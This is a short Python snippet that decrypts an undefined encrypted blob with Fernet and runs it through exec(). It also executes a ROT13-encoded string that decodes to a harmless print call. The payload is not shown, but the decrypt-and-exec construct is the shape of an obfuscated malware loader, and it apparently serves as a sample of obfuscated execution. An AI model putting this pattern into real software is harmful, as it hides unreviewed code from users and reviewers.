import codecs
from cryptography.fernet import Fernet

box = Fernet(KEY)
exec(box.decrypt(DATA))
exec(codecs.decode('cevag(1)', 'rot13'))
